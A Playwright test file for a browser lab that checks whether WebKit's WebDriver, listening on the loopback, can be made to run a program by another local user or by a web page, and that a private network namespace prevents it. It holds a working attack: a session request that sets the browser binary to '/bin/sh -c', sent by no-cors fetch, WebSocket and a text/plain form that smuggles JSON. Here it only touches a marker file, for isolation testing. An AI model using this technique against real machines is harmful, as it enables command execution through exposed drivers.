/**
 * WebKit's driver takes the first session that anybody asks it for, and starts the program that is
 * named as the browser. Here everybody tries: another user of the machine, and a page in each
 * engine. At a driver on the machine's loopback each of them has a program started.
 */
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { expect, test } from '@playwright/test';
import { findColumn } from '../../lab/browsers/columns.ts';
import type { Browser, Network } from '../../lab/browsers/driver.ts';
import { AgentOver } from '../../lab/browsers/http-client.ts';
import { type Loopback, makeLoopback, whyNoLoopback } from '../../lab/browsers/loopback.ts';
import { freePort, Group } from '../../lab/browsers/processes.ts';
import { profiles } from '../../lab/browsers/profiles.ts';
import { WebDriver } from '../../lab/browsers/webdriver.ts';
import { findWebKit } from '../../lab/browsers/webkit/webkit.ts';
import { startEmbedded } from '../../lab/gateway/embedded.ts';
import { networkOf } from '../../lab/run/network.ts';
import { browsersBelow } from '../live/processes.ts';
import { asStranger, canBeAnotherUser } from './stranger.ts';

/** Asks a driver's port for a session whose browser is a program of the attacker's choice. */
interface Attack {
  readonly url: string;
  readonly body: string;
}

const engines = ['chromium', 'firefox', 'webkit'] as const;
const everybody = ['another user', ...engines.map((engine) => `a page in ${engine}`)];
const program = findWebKit()?.driver ?? '';
const columns = engines.flatMap((id) => {
  const profile = profiles.find((one) => one.id === id);
  return (profile && findColumn(profile)) ?? [];
});

test.skip(process.platform !== 'linux' || columns.length < engines.length, 'an engine is missing');
test.describe.configure({ mode: 'serial' });

/** A page of a server of its own, and the three engines as a user has them: without the lab's proxy. */
const server = createServer((_request, response) => response.end('<!doctype html><p>a page'));
let lab: Awaited<ReturnType<typeof startEmbedded>>;
let network: Network;
let browsers: Browser[];
/** Where the programs that were started leave a file. */
let deeds: string;

test.beforeAll(async () => {
  process.env.LAB_OPEN_DRIVER = 'allow'; // for the WebKit that attacks
  deeds = await mkdtemp(join(tmpdir(), 'deeds-'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  lab = await startEmbedded();
  network = networkOf(lab, false);
  browsers = await Promise.all(
    columns.map(({ driver, profile }) => driver.launch(profile, { ...network, proxy: null })),
  );
});
test.afterEach(async () => {
  await Promise.all((await readdir(deeds)).map((name) => rm(join(deeds, name))));
});
test.afterAll(async () => {
  await Promise.all(browsers.map((browser) => browser.close()));
  server.close();
  await lab.close();
  await rm(deeds, { recursive: true });
  delete process.env.LAB_OPEN_DRIVER;
});

/** Has everybody attack a driver that waits for its session, each one of its own. Who had a program started? */
async function whoReaches(loopback: Loopback): Promise<string[]> {
  const attacks: ((attack: Attack) => Promise<unknown>)[] = [
    (attack) => asStranger(post, attack),
    ...browsers.map((browser) => async (attack: Attack) => {
      const session = await browser.session();
      await session.open(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, 10_000);
      await session.evaluate(post, attack, 5_000);
      await session.close();
    }),
  ];
  for (const [place, attack] of attacks.entries()) {
    const port = await freePort();
    const victim = new Group(...loopback.command(program, '-p', String(port)), process.env);
    await isUp(loopback, port);
    await attack(demand(port, everybody[place] ?? ''));
    await wait(500); // for the program
    await victim.kill();
  }
  return (await readdir(deeds)).sort((a, b) => everybody.indexOf(a) - everybody.indexOf(b));
}

async function isUp(loopback: Loopback, port: number) {
  const agent = new AgentOver(() => loopback.connect(port));
  const webdriver = new WebDriver(`http://127.0.0.1:${port}`, agent);
  await expect.poll(() => webdriver.ready()).toBe(true);
  agent.destroy();
}

const demand = (port: number, name: string): Attack => ({
  url: `http://127.0.0.1:${port}/session`,
  body: JSON.stringify({
    capabilities: {
      alwaysMatch: {
        'webkitgtk:browserOptions': {
          binary: '/bin/sh',
          args: ['-c', `touch '${join(deeds, name)}'`],
        },
      },
    },
  }),
});

/** Runs in a page, or in Node. Nobody waits for the answer, which no page can read. */
async function post({ url, body }: Attack) {
  const sent = fetch(url, { method: 'POST', mode: 'no-cors', body });
  await Promise.race([sent.catch(() => {}), new Promise((resolve) => setTimeout(resolve, 1_000))]);
  return null;
}

test('On the machine’s loopback everybody has WebKit’s driver start a program', async () => {
  expect(await whoReaches(await makeLoopback(null))).toEqual(everybody);
});

test('On a loopback of its own nobody reaches WebKit’s driver', async () => {
  test.skip((await whyNoLoopback()) !== null, 'no network namespace can be had');
  const loopback = await makeLoopback(network.proxy);
  expect(loopback.own).toBe(true);
  expect(await whoReaches(loopback)).toEqual([]);
  await loopback.close();
});

test('A page of the lab in WebKit does not reach a driver on its own loopback: the proxy is its only way', async () => {
  test.skip((await whyNoLoopback()) !== null, 'no network namespace can be had');
  const others = browsersBelow(process.pid, 'webkit');
  const { driver, profile } = columns.find(({ profile: { id } }) => id === 'webkit') ?? {};
  const browser = profile && (await driver?.launch(profile, network));
  if (!browser) throw new Error('there is no WebKit');
  const [own] = browsersBelow(process.pid, 'webkit').filter((id) => !others.includes(id));
  const beside = (command: string, ...args: string[]) =>
    new Group('nsenter', [...namespaceOf(own ?? 0), command, ...args], process.env);

  const port = await freePort();
  const victim = beside(program, '-p', String(port));
  const session = await browser.session();
  await session.open('http://www.example.test/', 10_000);
  await session.evaluate(everyWay, demand(port, 'a page of the lab'), 5_000);
  // A program that is on this loopback reaches it, so that it was there to be reached.
  const attack = `(${post})(${JSON.stringify(demand(port, 'a program beside it'))}).then(process.exit)`;
  await beside(process.execPath, '-e', `const __name = (f) => f; ${attack}`).gone;
  await expect.poll(() => readdir(deeds)).toContain('a program beside it');
  expect(await readdir(deeds)).not.toContain('a page of the lab');
  await victim.kill();
  await browser.close();
});

/** What nsenter needs to start a program in the network namespace of a process. */
const namespaceOf = (id: number) => [
  ...['--target', String(id), '--net'],
  ...(canBeAnotherUser ? [] : ['--user', '--preserve-credentials']),
  '--',
];

/** Runs in a page: asks by fetch, by a form in a frame, and by WebSocket. */
async function everyWay({ url, body }: Attack) {
  const frame = document.createElement('iframe');
  frame.name = 'frame';
  const form = document.createElement('form');
  Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain', target: 'frame' });
  const field = document.createElement('input');
  // As text/plain a form sends name=value: that is JSON here, too.
  Object.assign(field, { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  new WebSocket(url.replace('http:', 'ws:'));
  fetch(url, { method: 'POST', mode: 'no-cors', body }).catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  return null;
}
